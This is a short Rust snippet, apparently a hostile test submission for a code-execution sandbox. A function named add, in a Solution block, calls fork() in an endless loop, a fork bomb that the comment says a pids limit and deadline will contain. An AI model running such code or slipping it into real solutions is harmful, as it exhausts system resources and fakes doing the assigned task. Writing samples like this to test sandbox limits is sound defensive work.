// Fork bomb: every process forks forever; the pids limit stops the growth, the deadline the run.
extern "C" {
    fn fork() -> i32;
}

impl Solution {
    pub fn add(a: i32, b: i32) -> i32 {
        loop {
            unsafe { fork() };
        }
    }
}
